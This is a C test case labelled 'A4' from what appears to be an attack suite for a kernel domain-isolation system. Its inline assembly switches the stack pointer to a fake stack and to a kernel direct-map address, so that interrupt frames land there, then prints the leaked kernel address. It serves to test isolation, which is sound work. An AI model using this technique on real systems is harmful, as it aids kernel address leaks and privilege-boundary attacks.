/*
 * A4: interrupts with a stack pointer of the domain's choosing. Through a gate without an interrupt stack the processor would push
 * its frame there, in whichever view is active by then. In a sound system it uses the stack pointer of no one.
 */
#include "attack.h"

enum { UNUSED_VECTOR = 0xf0 };

static u64 saved_rsp, fake_stack[64];

static void attack(void) {
    asm volatile("movq %%rsp, %0\n\tleaq 512+%1, %%rsp\n\tint %2\n\tmovq %0, %%rsp"
                 : "+m"(saved_rsp), "+m"(fake_stack) : "i"(UNUSED_VECTOR) : "memory");
    u64 frame = fake_stack[59];
    /* An address of the kernel's own, until the timer has struck. */
    asm volatile("movq %%rsp, %0\n\tmovq %1, %%rsp\n\tmovl $400000, %%ecx\n1:\tpause\n\tdecl %%ecx\n\tjnz 1b\n\tmovq %0, %%rsp"
                 : "+m"(saved_rsp) : "r"(LVD_DIRECT_MAP + 0x600000) : "rcx", "memory");
    _printk("attack: the frame on my stack: %llx\n", frame);
}
